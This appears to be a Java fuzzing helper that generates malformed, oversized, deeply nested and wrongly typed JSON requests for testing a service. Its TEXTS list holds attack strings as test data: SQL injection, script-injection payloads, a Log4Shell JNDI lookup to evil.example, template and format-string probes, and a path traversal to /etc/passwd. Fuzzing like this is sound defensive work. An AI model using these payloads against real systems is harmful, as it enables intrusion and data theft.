package dev.barraiser.wire;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Makes requests strange: malformed, oversized, deeply nested, wrongly typed, with other people's
 * ids. The same for the same seed. One thread at a time.
 */
public final class Strange {

  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\u0000",
          "\ud800",
          "\u202e\u2066evil\u2069",
          "é\u0301\u0301\u0301\u0301\u0301",
          "👩‍👩‍👧‍👦".repeat(50),
          "<!channel> <!here> <@U1> <#C1> @everyone @here <@1> <@&2>",
          "'; DROP TABLE person; --",
          "\" OR 1=1 /*",
          "<script>alert(1)</script><img src=x onerror=alert(1)>",
          "[a](javascript:alert(1)) **x** ||y|| `z` *b* _c_ ~d~",
          "${jndi:ldap://evil.example/a} {{7*7}} %s %n %x",
          "../../../etc/passwd",
          "-1",
          "0",
          "9223372036854775807",
          "9223372036854775808",
          "1e400",
          "NaN",
          "true",
          "null",
          "1.2.3",
          "2026-02-30",
          "x".repeat(4_000),
          "a\n".repeat(2_000),
          "/barraiser /question /barraiser admin quotas 1 2 3");

  private final Random random;
  private final List<String> ids;

  /**
   * Begins.
   *
   * @param ids of everybody and everything there is, to be put in the place of others
   */
  public Strange(long seed, List<String> ids) {
    this.random = new Random(seed);
    this.ids = List.copyOf(ids);
  }

  /** One of these, at random. */
  public <T> T oneOf(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }

  /** Whether something happens that does once in so many times. */
  public boolean onceIn(int times) {
    return random.nextInt(times) == 0;
  }

  /** A number below {@code bound}. */
  public int number(int bound) {
    return random.nextInt(bound);
  }

  /** What nobody in their right mind would type. */
  public String text() {
    return switch (random.nextInt(8)) {
      case 0 -> oneOf(ids);
      case 1 -> Long.toString(random.nextLong());
      case 2 -> anyCharacters(random.nextInt(60));
      case 3 -> oneOf(TEXTS) + oneOf(TEXTS);
      default -> oneOf(TEXTS);
    };
  }

  private String anyCharacters(int length) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < length; i++) text.append((char) random.nextInt(0x10000));
    return text.toString();
  }

  /** A copy with up to four of its values made strange. */
  public ObjectNode of(ObjectNode whole) {
    ObjectNode copy = whole.deepCopy();
    int changes = 1 + random.nextInt(4);
    for (int i = 0; i < changes; i++) change(copy);
    return copy;
  }

  private void change(ObjectNode whole) {
    List<ObjectNode> objects = new ArrayList<>();
    collect(whole, objects);
    ObjectNode at = oneOf(objects);
    List<String> names = new ArrayList<>();
    at.fieldNames().forEachRemaining(names::add);
    if (names.isEmpty()) {
      at.set(text(), value(JSON.nullNode()));
      return;
    }
    String name = oneOf(names);
    switch (random.nextInt(6)) {
      case 0 -> at.remove(name);
      case 1 -> at.set(text(), at.get(name));
      case 2 -> at.set(name, oneOf(objects).deepCopy());
      case 3 -> at.set(name, at.get(oneOf(names)).deepCopy());
      default -> at.set(name, value(at.get(name)));
    }
  }

  private static void collect(JsonNode in, List<ObjectNode> objects) {
    if (in instanceof ObjectNode object) objects.add(object);
    if (objects.size() < 100) in.forEach(child -> collect(child, objects));
  }

  private JsonNode value(JsonNode was) {
    return switch (random.nextInt(9)) {
      case 0 -> JSON.nullNode();
      case 1 -> JSON.booleanNode(random.nextBoolean());
      case 2 -> JSON.numberNode(random.nextLong());
      case 3 -> JSON.numberNode(-1e300);
      case 4 -> JSON.arrayNode().add(was);
      case 5 -> nested(random.nextInt(60));
      case 6 -> JSON.objectNode();
      default -> JSON.textNode(text());
    };
  }

  private static ArrayNode nested(int deep) {
    ArrayNode outer = JSON.arrayNode();
    ArrayNode inner = outer;
    for (int i = 0; i < deep; i++) inner = inner.addArray();
    return outer;
  }

  /** JSON as it is sent: now and then cut off, or with something before it. */
  public String written(ObjectNode whole) {
    String json = whole.toString();
    if (onceIn(40)) return json.substring(0, number(json.length()));
    if (onceIn(40)) return text() + json;
    return json;
  }
}
